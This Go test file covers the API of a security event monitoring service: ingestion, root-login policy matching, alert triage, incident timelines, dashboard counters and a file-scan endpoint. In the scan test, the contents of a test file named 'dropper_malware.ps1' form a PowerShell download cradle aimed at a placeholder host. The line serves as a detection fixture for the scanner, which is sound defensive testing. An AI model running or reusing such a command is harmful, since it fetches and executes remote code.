package api

import (
	"bytes"
	"context"
	"encoding/json"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/lvonguyen/cortex/internal/correlation"
	"github.com/lvonguyen/cortex/internal/detection"
	"github.com/lvonguyen/cortex/internal/ingest"
	"github.com/lvonguyen/cortex/internal/model"
	"github.com/lvonguyen/cortex/internal/store"
)

func newTestServer(t *testing.T) (*store.MemoryStore, http.Handler) {
	t.Helper()
	st := store.NewMemoryStore()
	detector := detection.NewAnomalyDetector(st, nil)
	correlator := correlation.NewEngine(st, nil, nil, 0)
	pipeline := ingest.NewPipeline(st, detection.NewPolicyMatcher(), detector, correlator, nil, nil, nil)
	srv := NewServer(st, pipeline, nil, nil, nil, "test")
	return st, srv.Router()
}

func doJSON(t *testing.T, handler http.Handler, method, path string, body any) *httptest.ResponseRecorder {
	t.Helper()
	var buf bytes.Buffer
	if body != nil {
		if err := json.NewEncoder(&buf).Encode(body); err != nil {
			t.Fatalf("encode body: %v", err)
		}
	}
	req := httptest.NewRequest(method, path, &buf)
	req.Header.Set("Content-Type", "application/json")
	rec := httptest.NewRecorder()
	handler.ServeHTTP(rec, req)
	return rec
}

func decodeBody(t *testing.T, rec *httptest.ResponseRecorder, out any) {
	t.Helper()
	if err := json.Unmarshal(rec.Body.Bytes(), out); err != nil {
		t.Fatalf("decode response %q: %v", rec.Body.String(), err)
	}
}

// =============================================================================
// Ingestion Endpoint Tests
// =============================================================================

// TestIngestEndpoint_PolicyMatchRoundTrip walks a root login through
// the whole pipeline over HTTP: 201, MALICIOUS classification, stored
// event at risk 100, and a CRITICAL OPEN alert correlated into an
// incident.
func TestIngestEndpoint_PolicyMatchRoundTrip(t *testing.T) {
	st, handler := newTestServer(t)

	rec := doJSON(t, handler, http.MethodPost, "/api/events/policies", map[string]any{
		"name":             "Root Login",
		"rule":             map[string]string{"field": "user", "operator": "equals", "value": "root"},
		"mitreTechniqueId": "T1078",
	})
	if rec.Code != http.StatusOK {
		t.Fatalf("create policy = %d: %s", rec.Code, rec.Body.String())
	}

	rec = doJSON(t, handler, http.MethodPost, "/api/events/ingest", map[string]any{
		"type":    "AUTH_SUCCESS",
		"source":  "vpn-1",
		"details": map[string]any{"user": "root"},
	})
	if rec.Code != http.StatusCreated {
		t.Fatalf("ingest = %d: %s", rec.Code, rec.Body.String())
	}

	var resp struct {
		Status   string `json:"status"`
		EventID  string `json:"eventId"`
		Analysis string `json:"analysis"`
	}
	decodeBody(t, rec, &resp)
	if resp.Status != "ok" || resp.EventID == "" {
		t.Errorf("response = %+v, want ok with event id", resp)
	}
	if resp.Analysis != "MALICIOUS" {
		t.Errorf("analysis = %q, want MALICIOUS", resp.Analysis)
	}

	event, err := st.GetEvent(context.Background(), resp.EventID)
	if err != nil {
		t.Fatalf("event not stored: %v", err)
	}
	if event.RiskScore != 100 || event.Status != model.EventMalicious {
		t.Errorf("stored event = %s/%d, want MALICIOUS/100", event.Status, event.RiskScore)
	}

	rec = doJSON(t, handler, http.MethodGet, "/api/events/alerts", nil)
	var alerts []struct {
		Severity   model.Severity `json:"severity"`
		Status     string         `json:"status"`
		IncidentID *string        `json:"incidentId"`
		Event      *model.Event   `json:"event"`
	}
	decodeBody(t, rec, &alerts)
	if len(alerts) != 1 {
		t.Fatalf("alert count = %d, want 1", len(alerts))
	}
	if alerts[0].Severity != model.SeverityCritical || alerts[0].Status != "OPEN" {
		t.Errorf("alert = %s/%s, want CRITICAL/OPEN", alerts[0].Severity, alerts[0].Status)
	}
	if alerts[0].IncidentID == nil {
		t.Error("alert should be correlated into an incident")
	}
	if alerts[0].Event == nil || alerts[0].Event.Source != "vpn-1" {
		t.Error("alert listing should embed the triggering event")
	}
}

// TestIngestEndpoint_ValidationError verifies malformed submissions get
// a 400 with an error body.
func TestIngestEndpoint_ValidationError(t *testing.T) {
	_, handler := newTestServer(t)

	rec := doJSON(t, handler, http.MethodPost, "/api/events/ingest", map[string]any{
		"type":    "AUTH_SUCCESS",
		"details": map[string]any{},
	})
	if rec.Code != http.StatusBadRequest {
		t.Fatalf("code = %d, want 400", rec.Code)
	}
	var resp map[string]string
	decodeBody(t, rec, &resp)
	if resp["error"] == "" {
		t.Error("expected error message in body")
	}
}

// =============================================================================
// Alert Triage Tests
// =============================================================================

// TestUpdateAlertStatus verifies the allowed transitions and rejection
// of unknown statuses.
func TestUpdateAlertStatus(t *testing.T) {
	st, handler := newTestServer(t)
	ctx := context.Background()

	alert := &model.Alert{EventID: "ev-1", Severity: model.SeverityCritical, Status: model.AlertOpen}
	if err := st.CreateAlert(ctx, alert); err != nil {
		t.Fatalf("CreateAlert: %v", err)
	}

	rec := doJSON(t, handler, http.MethodPatch, "/api/events/alerts/"+alert.ID+"/status",
		map[string]string{"status": "ACKNOWLEDGED"})
	if rec.Code != http.StatusOK {
		t.Fatalf("code = %d: %s", rec.Code, rec.Body.String())
	}
	var updated model.Alert
	decodeBody(t, rec, &updated)
	if updated.Status != model.AlertAcknowledged {
		t.Errorf("status = %s, want ACKNOWLEDGED", updated.Status)
	}

	rec = doJSON(t, handler, http.MethodPatch, "/api/events/alerts/"+alert.ID+"/status",
		map[string]string{"status": "ESCALATED"})
	if rec.Code != http.StatusBadRequest {
		t.Errorf("unknown status code = %d, want 400", rec.Code)
	}

	rec = doJSON(t, handler, http.MethodPatch, "/api/events/alerts/missing/status",
		map[string]string{"status": "RESOLVED"})
	if rec.Code != http.StatusNotFound {
		t.Errorf("missing alert code = %d, want 404", rec.Code)
	}
}

// =============================================================================
// Incident Endpoint Tests
// =============================================================================

// TestGetIncident_Timeline verifies the incident detail endpoint
// returns attached alerts plus an interleaved alert/event timeline in
// chronological order.
func TestGetIncident_Timeline(t *testing.T) {
	_, handler := newTestServer(t)

	doJSON(t, handler, http.MethodPost, "/api/events/policies", map[string]any{
		"name": "Root Login",
		"rule": map[string]string{"field": "user", "operator": "equals", "value": "root"},
	})
	for i := 0; i < 2; i++ {
		rec := doJSON(t, handler, http.MethodPost, "/api/events/ingest", map[string]any{
			"type":    "AUTH_SUCCESS",
			"source":  "vpn-1",
			"details": map[string]any{"user": "root"},
		})
		if rec.Code != http.StatusCreated {
			t.Fatalf("ingest %d = %d", i, rec.Code)
		}
	}

	rec := doJSON(t, handler, http.MethodGet, "/api/events/incidents", nil)
	var incidents []struct {
		ID     string `json:"id"`
		Alerts []any  `json:"alerts"`
	}
	decodeBody(t, rec, &incidents)
	if len(incidents) != 1 {
		t.Fatalf("incident count = %d, want 1", len(incidents))
	}
	if len(incidents[0].Alerts) != 2 {
		t.Errorf("attached alerts = %d, want 2", len(incidents[0].Alerts))
	}

	rec = doJSON(t, handler, http.MethodGet, "/api/events/incidents/"+incidents[0].ID, nil)
	if rec.Code != http.StatusOK {
		t.Fatalf("incident detail = %d", rec.Code)
	}
	var detail struct {
		Summary  string `json:"summary"`
		Timeline []struct {
			Type      string `json:"type"`
			Timestamp string `json:"timestamp"`
		} `json:"timeline"`
	}
	decodeBody(t, rec, &detail)
	if !strings.Contains(detail.Summary, "Security Incident involving vpn-1") {
		t.Errorf("summary = %q", detail.Summary)
	}
	if len(detail.Timeline) != 4 {
		t.Fatalf("timeline entries = %d, want 4 (2 alerts + 2 events)", len(detail.Timeline))
	}
	var prev time.Time
	for i, entry := range detail.Timeline {
		ts, err := time.Parse(time.RFC3339Nano, entry.Timestamp)
		if err != nil {
			t.Fatalf("timeline timestamp %q: %v", entry.Timestamp, err)
		}
		if i > 0 && ts.Before(prev) {
			t.Error("timeline should be chronological")
		}
		prev = ts
	}

	rec = doJSON(t, handler, http.MethodGet, "/api/events/incidents/missing", nil)
	if rec.Code != http.StatusNotFound {
		t.Errorf("missing incident = %d, want 404", rec.Code)
	}
}

// =============================================================================
// Dashboard Tests
// =============================================================================

// TestDashboardStats verifies the aggregate counters and the zero
// filled activity histogram.
func TestDashboardStats(t *testing.T) {
	_, handler := newTestServer(t)

	doJSON(t, handler, http.MethodPost, "/api/events/policies", map[string]any{
		"name": "Root Login",
		"rule": map[string]string{"field": "user", "operator": "equals", "value": "root"},
	})
	doJSON(t, handler, http.MethodPost, "/api/events/ingest", map[string]any{
		"type": "AUTH_SUCCESS", "source": "vpn-1", "details": map[string]any{"user": "root"},
	})
	doJSON(t, handler, http.MethodPost, "/api/events/ingest", map[string]any{
		"type": "NET_FLOW", "source": "web-2", "details": map[string]any{},
	})

	rec := doJSON(t, handler, http.MethodGet, "/api/dashboard/stats", nil)
	if rec.Code != http.StatusOK {
		t.Fatalf("code = %d: %s", rec.Code, rec.Body.String())
	}

	var resp struct {
		Stats struct {
			TotalEvents    int `json:"totalEvents"`
			ActiveAlerts   int `json:"activeAlerts"`
			ActiveSources  int `json:"activeSources"`
			ActivePolicies int `json:"activePolicies"`
		} `json:"stats"`
		RecentEvents []model.Event `json:"recentEvents"`
		EventsByHour []struct {
			Hour  string `json:"hour"`
			Count int    `json:"count"`
		} `json:"eventsByHour"`
	}
	decodeBody(t, rec, &resp)

	if resp.Stats.TotalEvents != 2 || resp.Stats.ActiveAlerts != 1 ||
		resp.Stats.ActiveSources != 2 || resp.Stats.ActivePolicies != 1 {
		t.Errorf("stats = %+v", resp.Stats)
	}
	if len(resp.RecentEvents) != 2 {
		t.Errorf("recent events = %d, want 2", len(resp.RecentEvents))
	}
	if len(resp.EventsByHour) != 24 {
		t.Fatalf("histogram buckets = %d, want 24", len(resp.EventsByHour))
	}
	total := 0
	for i, p := range resp.EventsByHour {
		total += p.Count
		if i > 0 && p.Hour <= resp.EventsByHour[i-1].Hour {
			t.Error("histogram should be in ascending bucket order")
		}
	}
	if total != 2 {
		t.Errorf("histogram total = %d, want 2", total)
	}
}

// =============================================================================
// Scan Endpoint Tests
// =============================================================================

// TestScanEndpoint verifies the multipart upload path and a malicious
// verdict for a script stuffed with indicators.
func TestScanEndpoint(t *testing.T) {
	_, handler := newTestServer(t)

	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	fw, err := mw.CreateFormFile("file", "dropper_malware.ps1")
	if err != nil {
		t.Fatalf("CreateFormFile: %v", err)
	}
	fw.Write([]byte(`powershell -enc $(New-Object Net.WebClient).DownloadString("http://x")`))
	mw.Close()

	req := httptest.NewRequest(http.MethodPost, "/api/analysis/scan", &buf)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	rec := httptest.NewRecorder()
	handler.ServeHTTP(rec, req)

	if rec.Code != http.StatusOK {
		t.Fatalf("code = %d: %s", rec.Code, rec.Body.String())
	}
	var result struct {
		FileName    string   `json:"fileName"`
		SHA256      string   `json:"sha256"`
		Status      string   `json:"status"`
		ThreatLevel int      `json:"threatLevel"`
		Findings    []string `json:"findings"`
	}
	decodeBody(t, rec, &result)
	if result.FileName != "dropper_malware.ps1" {
		t.Errorf("fileName = %q", result.FileName)
	}
	if len(result.SHA256) != 64 {
		t.Errorf("sha256 length = %d, want 64 hex chars", len(result.SHA256))
	}
	if result.Status != "malicious" {
		t.Errorf("status = %q (threat %d), want malicious", result.Status, result.ThreatLevel)
	}
	if len(result.Findings) == 0 {
		t.Error("expected findings")
	}
}

// TestScanEndpoint_NoFile verifies the 400 when no file part is
// present.
func TestScanEndpoint_NoFile(t *testing.T) {
	_, handler := newTestServer(t)

	req := httptest.NewRequest(http.MethodPost, "/api/analysis/scan", strings.NewReader(""))
	rec := httptest.NewRecorder()
	handler.ServeHTTP(rec, req)

	if rec.Code != http.StatusBadRequest {
		t.Errorf("code = %d, want 400", rec.Code)
	}
}
